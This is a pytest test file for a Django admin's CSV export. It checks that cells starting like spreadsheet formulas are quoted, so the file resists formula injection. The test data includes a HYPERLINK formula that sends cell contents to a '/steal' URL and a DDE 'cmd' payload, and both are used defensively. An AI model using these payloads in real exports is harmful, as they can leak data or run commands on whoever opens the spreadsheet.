"""The history's CSV opens in a spreadsheet without running anything that came from outside.

Text cells (document numbers, Spectrum's codes, columns and messages) that start like a formula
(=, +, -, @, tab, carriage return) get a leading single quote; numbers the project produced stay
plain numbers, negative ones included.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from spectrum_sync.adminsite import history
from spectrum_sync.models import SyncStatus
from tests.admin.world import World, client_for, make_record

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"Open invoice")'


def exported_rows(world: World, query: str) -> list[dict[str, str]]:
    response = client_for(world.manager).get(reverse("admin:spectrum_sync_syncrecord_export") + query)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(body)))


def test_formula_like_text_from_outside_is_quoted_in_the_history_csv(world: World) -> None:
    formula = make_record(
        world.acme,
        HYPERLINK,
        SyncStatus.FAILED,
        error_code="@SUM(1+1)",
        error_column="+A1",
        error_message="\tcmd|' /C calc'!A0",
        version="\r=1+2",
    )
    minus = make_record(world.acme, "-12", SyncStatus.FAILED)
    rows = {row["id"]: row for row in exported_rows(world, "?status=failed")}

    cells = rows[str(formula.pk)]
    assert cells["document_number"] == "'" + HYPERLINK
    assert cells["error_code"] == "'@SUM(1+1)"
    assert cells["error_column"] == "'+A1"
    assert cells["error_message"] == "'\tcmd|' /C calc'!A0"
    assert cells["version"] == "'\r=1+2"
    assert rows[str(minus.pk)]["document_number"] == "'-12"  # text that looks like a number is still text
    assert rows[str(minus.pk)]["platform_id"] == "plat--12"  # a leading "-" only counts at the start


def test_plain_text_and_the_projects_own_values_are_left_alone(world: World) -> None:
    rows = exported_rows(world, "?status=failed")
    invoice = next(r for r in rows if r["document_number"] == "INV-1001")
    assert invoice["error_message"] == "GL Account does not match GL Mask"
    assert invoice["id"] == str(world.acme_failed.pk) and invoice["attempt_count"] == "0"
    assert invoice["created_at"][:4].isdigit()  # ISO time, no quote


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-12.50"), "-12.50"),
        (-12, "-12"),
        (-0.5, "-0.5"),
        (Decimal("1E+3"), "1000"),
        ("-12", "'-12"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        (None, ""),
    ],
)
def test_one_cell(value: object, cell: str) -> None:
    text = "".join(history.csv_lines(["h"], [[value]]))
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["h"], [cell]]
    assert str(history.csv_cell(value)) == cell
